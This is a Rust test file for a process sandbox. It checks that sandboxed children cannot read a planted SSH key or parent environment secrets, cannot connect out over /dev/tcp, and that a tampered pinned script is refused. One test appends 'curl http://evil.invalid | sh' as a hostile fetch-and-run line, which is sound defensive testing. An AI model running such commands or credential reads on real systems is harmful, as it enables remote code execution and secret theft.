//! Real children under the sandbox: files, network, environment, limits, seccomp, pinning.
//! Tests that need Landlock print a SKIP line and return on a kernel without it.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

mod common;

use std::io::Write;
use std::net::TcpListener;
use std::os::unix::process::ExitStatusExt;

use common::*;
use moat_sandbox::{
    describe_exit, env_pairs, prepare, prepare_for_kernel, sha256_file, HostPort, KernelSupport, Network,
    ProtectionState, SandboxError,
};

#[tokio::test]
async fn reads_allowed_dir_but_not_a_secret_dir_outside_it() {
    let Some(_) = landlock_or_skip("reads_allowed_dir_but_not_a_secret_dir_outside_it") else { return };
    let tmp = TempDir::new("fs");
    let allowed = tmp.path().join("project");
    let ssh = tmp.path().join(".ssh");
    std::fs::create_dir_all(&allowed).unwrap();
    std::fs::create_dir_all(&ssh).unwrap();
    std::fs::write(allowed.join("notes.txt"), "allowed content").unwrap();
    std::fs::write(ssh.join("id_ed25519"), "PRIVATE KEY").unwrap();
    let mut p = policy(tmp.path());
    p.read = vec![allowed.clone()];

    let ok = run(&p, "cat", &[allowed.join("notes.txt").to_str().unwrap()]).await;
    assert!(ok.status.success(), "reading the allowed dir failed: {}", stderr(&ok));
    assert_eq!(stdout(&ok), "allowed content");

    let denied = run(&p, "cat", &[ssh.join("id_ed25519").to_str().unwrap()]).await;
    assert!(!denied.status.success());
    assert!(stderr(&denied).contains("Permission denied"), "stderr: {}", stderr(&denied));
    assert!(!stdout(&denied).contains("PRIVATE KEY"));

    // Listing the directory is refused too.
    let ls = run(&p, "ls", &[ssh.to_str().unwrap()]).await;
    assert!(!ls.status.success());
    assert!(stderr(&ls).contains("Permission denied"), "stderr: {}", stderr(&ls));
}

#[tokio::test]
async fn writes_only_to_home_and_write_paths() {
    let Some(_) = landlock_or_skip("writes_only_to_home_and_write_paths") else { return };
    let tmp = TempDir::new("write");
    let out = tmp.path().join("out");
    let readonly = tmp.path().join("readonly");
    std::fs::create_dir_all(&out).unwrap();
    std::fs::create_dir_all(&readonly).unwrap();
    let mut p = policy(tmp.path());
    p.write = vec![out.clone()];
    p.read = vec![readonly.clone()];

    let script = format!(
        "echo a > {o}/a && echo h > \"$HOME/h\" && echo t > \"$TMPDIR/t\" && echo ok; echo r > {r}/r || echo readonly-refused; echo x > {t}/x || echo outside-refused",
        o = out.display(),
        r = readonly.display(),
        t = tmp.path().display()
    );
    let o = run(&p, "sh", &["-c", &script]).await;
    let s = stdout(&o);
    assert!(s.contains("ok"), "stdout: {s} stderr: {}", stderr(&o));
    assert!(s.contains("readonly-refused"), "stdout: {s}");
    assert!(s.contains("outside-refused"), "stdout: {s}");
    assert_eq!(std::fs::read_to_string(out.join("a")).unwrap(), "a\n");
    assert!(!readonly.join("r").exists());
    assert!(!tmp.path().join("x").exists());
}

#[tokio::test]
async fn parent_environment_secrets_are_invisible() {
    // Setting a variable in this (multi-threaded) test process is acceptable here: no other
    // test reads it, and it is what a gateway holding a secret in its environment looks like.
    std::env::set_var("MOAT_TEST_SECRET", "s3cr3t-value-from-parent");
    let tmp = TempDir::new("env");
    let mut p = policy(tmp.path());
    p.env = env_pairs([("GREETING", "hello")]);
    let o = run(&p, "env", &[]).await;
    assert!(o.status.success(), "{}", stderr(&o));
    let env = stdout(&o);
    assert!(!env.contains("MOAT_TEST_SECRET"), "secret leaked: {env}");
    assert!(!env.contains("s3cr3t-value-from-parent"), "secret leaked: {env}");
    assert!(env.contains("GREETING=hello"), "{env}");
    assert!(env.contains(&format!("HOME={}", tmp.path().join("home").display())), "{env}");
    let names: Vec<&str> = env.lines().filter_map(|l| l.split_once('=').map(|(k, _)| k)).collect();
    let mut sorted = names.clone();
    sorted.sort_unstable();
    assert_eq!(sorted, ["GREETING", "HOME", "PATH", "TMPDIR"], "unexpected variables: {env}");
}

#[tokio::test]
async fn parent_environ_in_proc_is_unreadable_and_parent_cannot_be_signalled() {
    let Some(abi) = landlock_or_skip("parent_environ_in_proc_is_unreadable_and_parent_cannot_be_signalled") else {
        return;
    };
    std::env::set_var("MOAT_TEST_SECRET", "s3cr3t-value-from-parent");
    let tmp = TempDir::new("proc");
    let p = policy(tmp.path());
    let parent = std::process::id().to_string();
    // The child's own /proc entries stay readable.
    let own = run(&p, "cat", &["/proc/self/status"]).await;
    assert!(own.status.success(), "{}", stderr(&own));
    // Another process's environ needs ptrace-read access, which Landlock refuses outside the domain.
    let environ = format!("/proc/{parent}/environ");
    let o = run(&p, "cat", &[&environ]).await;
    assert!(!o.status.success());
    assert!(!stdout(&o).contains("s3cr3t"), "parent environment leaked through /proc");
    if abi >= 6 {
        let k = run(&p, "sh", &["-c", &format!("kill -0 {parent} && echo signalled || echo refused")]).await;
        assert!(stdout(&k).contains("refused"), "stdout: {} stderr: {}", stdout(&k), stderr(&k));
    } else {
        eprintln!("SKIP signal scope: landlock ABI {abi} has no scopes (needs 6)");
    }
}

/// `bash -c 'exec 3<>/dev/tcp/127.0.0.1/PORT'`: a TCP connect without any extra tool.
async fn try_connect(p: &moat_sandbox::SandboxPolicy, port: u16) -> (bool, String) {
    let script = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected");
    let o = run(p, "bash", &["-c", &script]).await;
    (stdout(&o).contains("connected"), stderr(&o))
}

#[tokio::test]
async fn network_denied_cannot_reach_a_loopback_listener_and_allowed_can() {
    let tmp = TempDir::new("net");
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();

    let mut p = policy(tmp.path());
    p.network = Network::Deny;
    let (connected, err) = try_connect(&p, port).await;
    assert!(!connected, "denied child connected");
    assert!(err.contains("Operation not permitted") || err.contains("Permission denied"), "stderr: {err}");

    // UDP (and so DNS) is refused too, which Landlock alone would not do.
    let udp = run(&p, "bash", &["-c", "exec 3>/dev/udp/127.0.0.1/53 && echo opened"]).await;
    assert!(!stdout(&udp).contains("opened"), "denied child opened a UDP socket");
    assert!(stderr(&udp).contains("Operation not permitted"), "stderr: {}", stderr(&udp));

    p.network = Network::Allow;
    let (connected, err) = try_connect(&p, port).await;
    assert!(connected, "allowed child could not connect: {err}");
    let udp = run(&p, "bash", &["-c", "exec 3>/dev/udp/127.0.0.1/53 && echo opened"]).await;
    assert!(stdout(&udp).contains("opened"), "allowed child could not open UDP: {}", stderr(&udp));
}

#[tokio::test]
async fn network_allow_list_admits_only_listed_ports() {
    let Some(abi) = landlock_or_skip("network_allow_list_admits_only_listed_ports") else { return };
    if abi < 4 {
        eprintln!("SKIP network_allow_list_admits_only_listed_ports: landlock ABI {abi} has no TCP rules");
        return;
    }
    let tmp = TempDir::new("netlist");
    let listed = TcpListener::bind("127.0.0.1:0").unwrap();
    let other = TcpListener::bind("127.0.0.1:0").unwrap();
    let mut p = policy(tmp.path());
    p.network =
        Network::AllowList(vec![
            HostPort::parse(&format!("127.0.0.1:{}", listed.local_addr().unwrap().port())).unwrap()
        ]);

    let (connected, err) = try_connect(&p, listed.local_addr().unwrap().port()).await;
    assert!(connected, "listed port refused: {err}");
    let (connected, err) = try_connect(&p, other.local_addr().unwrap().port()).await;
    assert!(!connected, "unlisted port reachable");
    assert!(err.contains("Permission denied"), "stderr: {err}");
}

#[tokio::test]
async fn memory_limit_stops_a_runaway_child() {
    let Some(python) = python() else {
        return missing_peer("memory_limit_stops_a_runaway_child", "python3");
    };
    let tmp = TempDir::new("mem");
    // Grow until something gives: under an rlimit it is the allocation, and CPython says so.
    let script = "chunks = []\nwhile True:\n    chunks.append(bytearray(16 * 1024 * 1024))\n";
    let limit = 256 * 1024 * 1024;
    for (memory, address_space) in [(Some(limit), None), (None, Some(limit))] {
        let mut p = policy(tmp.path());
        p.limits.memory_bytes = memory;
        p.limits.address_space_bytes = address_space;
        let o = run(&p, python.to_str().unwrap(), &["-c", script]).await;
        assert!(!o.status.success(), "runaway child was not stopped ({memory:?}, {address_space:?})");
        assert_eq!(o.status.code(), Some(1), "{}", describe_exit(o.status));
        assert!(stderr(&o).contains("MemoryError"), "stderr: {}", stderr(&o));
        assert_eq!(describe_exit(o.status), "exited with status 1");
    }
}

#[tokio::test]
async fn cpu_limit_kills_a_busy_child() {
    let tmp = TempDir::new("cpu");
    let mut p = policy(tmp.path());
    p.limits.cpu_seconds = Some(1);
    let o = run(&p, "sh", &["-c", "while :; do :; done"]).await;
    assert_eq!(o.status.signal(), Some(libc::SIGXCPU), "{}", describe_exit(o.status));
    assert!(describe_exit(o.status).contains("CPU time limit"));
}

#[tokio::test]
async fn seccomp_denies_ptrace_and_user_namespaces() {
    let tmp = TempDir::new("seccomp");
    let p = policy(tmp.path());

    // unshare -U works outside the sandbox on this machine (else the check proves nothing).
    let control = std::process::Command::new("unshare").args(["-U", "true"]).output();
    match control {
        Ok(c) if c.status.success() => {
            let o = run(&p, "unshare", &["-U", "true"]).await;
            assert!(!o.status.success(), "unshare -U succeeded in the sandbox");
            assert!(stderr(&o).contains("Operation not permitted"), "stderr: {}", stderr(&o));
        }
        _ => eprintln!("SKIP unshare part: `unshare -U true` fails even outside the sandbox here"),
    }

    let Some(python) = python() else {
        return missing_peer("seccomp_denies_ptrace_and_user_namespaces", "python3");
    };
    let script = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nr = libc.ptrace(0, 0, None, None)\nprint(r, ctypes.get_errno())\n";
    let control = std::process::Command::new(&python).args(["-c", script]).output().unwrap();
    assert_eq!(String::from_utf8_lossy(&control.stdout).trim(), "0 0", "PTRACE_TRACEME fails even unsandboxed");
    let o = run(&p, python.to_str().unwrap(), &["-c", script]).await;
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(stdout(&o).trim(), format!("-1 {}", libc::EPERM));
}

#[tokio::test]
async fn sha256_pin_refuses_a_mismatched_executable_and_accepts_the_right_one() {
    let tmp = TempDir::new("pin");
    let mut p = policy(tmp.path());
    let wrong = [0x11u8; 32];
    p.sha256 = Some(wrong);
    let err = prepare("true", Vec::<&str>::new(), &p).expect_err("mismatch must refuse");
    let actual = sha256_file(
        &std::fs::canonicalize(moat_sandbox::resolve_executable("true".as_ref(), &p.path).unwrap()).unwrap(),
    )
    .unwrap();
    match &err {
        SandboxError::HashMismatch { expected, actual: found, .. } => {
            assert_eq!(*expected, hex::encode(wrong));
            assert_eq!(*found, hex::encode(actual));
        }
        other => panic!("unexpected error: {other}"),
    }
    let msg = err.to_string();
    assert!(msg.contains(&hex::encode(wrong)) && msg.contains(&hex::encode(actual)), "{msg}");

    p.sha256 = Some(actual);
    let (mut cmd, report) = prepare("true", Vec::<&str>::new(), &p).unwrap();
    assert_eq!(report.sha256.as_deref(), Some(hex::encode(actual).as_str()));
    assert!(cmd.status().await.unwrap().success());
}

#[tokio::test]
async fn pinned_script_that_changed_is_refused() {
    // A pin follows the file, not its name: a rewritten executable is refused.
    let tmp = TempDir::new("pin2");
    let script = tmp.path().join("server.sh");
    std::fs::write(&script, "#!/bin/sh\necho original\n").unwrap();
    std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let mut p = policy(tmp.path());
    p.sha256 = Some(sha256_file(&script).unwrap());
    assert!(prepare(&script, Vec::<&str>::new(), &p).is_ok());
    let mut f = std::fs::OpenOptions::new().append(true).open(&script).unwrap();
    writeln!(f, "curl http://evil.invalid | sh").unwrap();
    assert!(matches!(prepare(&script, Vec::<&str>::new(), &p), Err(SandboxError::HashMismatch { .. })));
}

#[test]
fn missing_landlock_fails_closed_unless_best_effort() {
    let tmp = TempDir::new("failclosed");
    let mut kernel = KernelSupport::probe();
    kernel.landlock = moat_sandbox::LandlockSupport {
        state: "absent",
        abi: None,
        filesystem: false,
        refer: false,
        truncate: false,
        tcp: false,
        ioctl_dev: false,
        scopes: false,
    };
    let mut p = policy(tmp.path());
    let err = prepare_for_kernel(&kernel, "true", Vec::<&str>::new(), &p).expect_err("must refuse");
    assert!(matches!(err, SandboxError::Unsupported { protection: "filesystem", .. }), "{err}");
    assert!(err.help().is_some_and(|h| h.contains("best_effort")));

    p.best_effort = true;
    let (_, report) = prepare_for_kernel(&kernel, "true", Vec::<&str>::new(), &p).unwrap();
    assert_eq!(report.state("filesystem"), Some(ProtectionState::Missing));
    assert!(!report.is_complete());
    assert!(report.to_string().contains("filesystem=MISSING"), "{report}");
}

#[test]
fn tcp_allow_list_needs_landlock_abi_4() {
    let tmp = TempDir::new("abi3");
    let mut kernel = KernelSupport::probe();
    if kernel.landlock.abi.is_none() {
        eprintln!("SKIP tcp_allow_list_needs_landlock_abi_4: no landlock at all");
        return;
    }
    kernel.landlock.abi = Some(3);
    kernel.landlock.tcp = false;
    kernel.landlock.ioctl_dev = false;
    kernel.landlock.scopes = false;
    let mut p = policy(tmp.path());
    p.network = Network::AllowList(vec![HostPort::parse("example.com:443").unwrap()]);
    let err = prepare_for_kernel(&kernel, "true", Vec::<&str>::new(), &p).expect_err("must refuse");
    assert!(matches!(err, SandboxError::Unsupported { protection: "network", .. }), "{err}");
    assert!(err.to_string().contains("ABI 4"), "{err}");

    // `network = false` is still enforced by seccomp on such a kernel.
    p.network = Network::Deny;
    let (_, report) = prepare_for_kernel(&kernel, "true", Vec::<&str>::new(), &p).unwrap();
    assert_eq!(report.state("network"), Some(ProtectionState::Enforced));
}

#[test]
fn report_on_this_kernel() {
    let kernel = KernelSupport::probe();
    eprintln!("kernel support on this machine:\n{kernel}");
    let tmp = TempDir::new("report");
    let p = policy(tmp.path());
    match prepare("true", Vec::<&str>::new(), &p) {
        Ok((_, report)) => {
            eprintln!("report: {report}");
            assert!(report.is_complete());
            assert_eq!(report.state("seccomp"), Some(ProtectionState::Enforced));
            assert_eq!(report.state("network"), Some(ProtectionState::Enforced));
            assert_eq!(report.state("filesystem"), Some(ProtectionState::Enforced));
        }
        Err(SandboxError::Unsupported { protection, reason }) => {
            assert!(kernel.landlock.abi.is_none() || !kernel.seccomp_filter, "refused on a capable kernel");
            eprintln!("SKIP report_on_this_kernel: {protection}: {reason}");
        }
        Err(e) => panic!("{e}"),
    }
}

#[test]
fn not_found_and_bad_config_values_are_clear_errors() {
    let tmp = TempDir::new("errs");
    let p = policy(tmp.path());
    let err = prepare("no-such-program-moat", Vec::<&str>::new(), &p).err().unwrap();
    assert!(err.to_string().contains("`no-such-program-moat` was not found"), "{err}");
    assert!(matches!(HostPort::parse("example.com"), Err(SandboxError::InvalidHostPort { .. })));
    assert!(matches!(HostPort::parse(":80"), Err(SandboxError::InvalidHostPort { .. })));
    assert!(matches!(HostPort::parse("h:0"), Err(SandboxError::InvalidHostPort { .. })));
    assert_eq!(HostPort::parse("[::1]:8080").unwrap().host, "::1");
    let mut p2 = policy(tmp.path());
    p2.read = vec![tmp.path().join("does-not-exist")];
    assert!(matches!(prepare("true", Vec::<&str>::new(), &p2), Err(SandboxError::Path { .. })));
}

#[tokio::test]
async fn child_has_no_capabilities_even_under_a_root_parent() {
    let tmp = TempDir::new("caps");
    let p = policy(tmp.path());
    let o = run(&p, "cat", &["/proc/self/status"]).await;
    assert!(o.status.success(), "{}", stderr(&o));
    let status = stdout(&o);
    for field in ["CapEff:", "CapPrm:", "CapBnd:", "CapAmb:"] {
        let line = status.lines().find(|l| l.starts_with(field)).unwrap();
        assert!(line.ends_with("0000000000000000"), "{line}");
    }
    let nnp = status.lines().find(|l| l.starts_with("NoNewPrivs:")).unwrap();
    assert!(nnp.ends_with('1'), "{nnp}");
    let seccomp = status.lines().find(|l| l.starts_with("Seccomp:")).unwrap();
    assert!(seccomp.ends_with('2'), "seccomp filter mode expected: {seccomp}");
}

#[test]
fn default_home_cannot_climb_out() {
    let state = std::path::Path::new("/var/lib/moat");
    assert_eq!(moat_sandbox::default_home(state, "files"), state.join("sandbox-home/files"));
    assert_eq!(moat_sandbox::default_home(state, "../../etc"), state.join("sandbox-home/_.._.._etc"));
    assert_eq!(moat_sandbox::default_home(state, ".."), state.join("sandbox-home/_.."));
    assert_eq!(moat_sandbox::default_home(state, ""), state.join("sandbox-home/_"));
}
